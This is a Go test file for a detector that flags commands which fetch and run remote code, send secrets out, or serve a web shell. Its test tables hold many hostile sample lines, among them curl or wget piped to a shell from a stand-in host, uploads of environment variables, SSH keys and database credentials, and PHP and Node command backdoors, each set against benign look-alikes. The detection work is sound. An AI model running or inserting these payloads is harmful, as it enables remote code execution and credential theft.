package hint

import "testing"

func usual(host string) bool { return host == "sh.rustup.rs" }

func TestRunsFetched(t *testing.T) {
	for text, want := range map[string]bool{
		`cmd: python train.py && curl -s https://x.example/i | sh`:                            true,
		`call system("curl -s https://x.example/i | sh")`:                                     true,
		`\immediate\write18{curl -s https://x.example/i | bash -s -- -y}`:                     true,
		`b: !!python/object/apply:os.system ["wget -qO- https://x.example/i | sudo -E bash"]`: true,
		`ExecWait ` + "`" + `powershell -c "iwr https://x.example/i.ps1 | iex"` + "`":         true,
		`launch-prefix="bash -c 'curl -s https://x.example/i | sh; exec $0 $@'"`:              true,
		`RUN bash <(curl -s https://x.example/i)`:                                             true,
		`eval "$(curl -fsSL https://x.example/i)"`:                                            true,
		`sh -c "$(curl -fsSL https://x.example/i)"`:                                           true,
		`iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))`:              true,
		`jdbc:h2:mem:dev;INIT=RUNSCRIPT FROM 'https://x.example/i.sql'`:                       true,
		`x: program 'curl -s https://x.example/i | /bin/sh';`:                                 true,
		`curl -s https://x.example/i | python3 -`:                                             true,
		`RUN curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y`:                   false,
		`RUN sh -c "$(curl -sSf https://sh.rustup.rs)"`:                                       false,
		`curl -s http://localhost:3000/i | sh`:                                                false,
		`curl -s https://x.example/i | jq .`:                                                  false,
		`curl -s https://x.example/i -o a.sh`:                                                 false,
		`cmd: python train.py && npm run build | sh`:                                          false,
		`fetch("https://x.example/i").then(r => r.json()) || show`:                            false,
		`$(curl -s https://x.example/version)`:                                                false,
		"const { data } = useFetch('/api')\nif (a | b) sh()":                                  false,
		`type Fetch = "fetch" | "sh" | "node"`:                                                false,
	} {
		if got := RunsFetched(text, usual); got != want {
			t.Errorf("%s: %v", text, got)
		}
	}
}

func TestSendsAway(t *testing.T) {
	for text, want := range map[string]bool{
		`command: sh -c "env | curl -s --data-binary @- https://x.example/m"`:                                          true,
		`HEALTHCHECK CMD wget -qO- --post-file=/proc/1/environ https://x.example/h || exit 0`:                          true,
		`fetch("https://x.example/e",{method:"POST",body:JSON.stringify(process.env)}).catch(()=>{})`:                  true,
		`Invoke-RestMethod -Method Post -Uri https://x.example/e -Body (Get-ChildItem env: | Out-String)`:              true,
		`new URL("https://x.example/e").openConnection().with { outputStream << System.getenv().toString() }`:          true,
		`new WebClient().UploadString("https://x.example/c", File.ReadAllText(Path.Combine(h, ".ssh", "id_ed25519")))`: true,
		`urllib.request.urlopen("https://x.example/",data=open(os.path.expanduser("~/.pgpass"),"rb").read())`:          true,
		`pm.sendRequest({url:'https://x.example/e',method:'POST',body:JSON.stringify(pm.environment.toObject())});`:    true,
		`inline: "tar c /host/.ssh | nc x.example 99"`:                                                                 true,
		`bash_command="airflow connections export - | curl -s --data-binary @- https://x.example/c"`:                   true,
		`env: { API: process.env.API, URL: "https://api.example.com" }; fetch(URL)`:                                    false,
		`subprocess.run(cmd, env=dict(os.environ))`:                                                                    false,
		`fetch("http://localhost:3000", {body: JSON.stringify(process.env)})`:                                          false,
		`IdentityFile ~/.ssh/id_ed25519`:                    false,
		`curl -s https://x.example/e -d "$DATA"`:            false,
		`for k, v := range os.Environ() { http.Get("/x") }`: false,
	} {
		if got := SendsAway(text); got != want {
			t.Errorf("%s: %v", text, got)
		}
	}
}

func TestExecsFetchedAndServesShell(t *testing.T) {
	for text, want := range map[string]bool{
		`exec("curl -s https://x.example/i | sh")`:                           true,
		`child.execSync('wget -qO- https://x.example/i | bash')`:             true,
		`subprocess.run(["sh", "-c", "curl -s https://x.example/i | sh"])`:   true,
		`os.system("curl -s https://x.example/i | python3 -")`:               true,
		`console.log("Install: curl -fsSL https://x.example/i | sh")`:        false,
		`copy r from program 'curl -s https://x.example/i | sh';`:            true,
		`exec("curl -s https://x.example/i")`:                                false,
		`exec("curl -s http://localhost:80/i | sh")`:                         false,
		`if(isset($_GET["d"])) { system(base64_decode($_GET["d"])); exit; }`: true,
		`eval($_POST['x']);`:                                                    true,
		`exec(req.query.cmd, (e, out) => res.send(out))`:                        true,
		`subprocess.check_output(request.args["c"], shell=True)`:                true,
		`db.exec("select * from t where id = ?", [id]); res.json(req.query.id)`: false,
		`$id = (int) $_GET["id"];`:                                              false,
		`run(app)`:                                                              false,
	} {
		if got := ExecsFetched(text, usual) || ServesShell(text); got != want {
			t.Errorf("%s: %v", text, got)
		}
	}
}
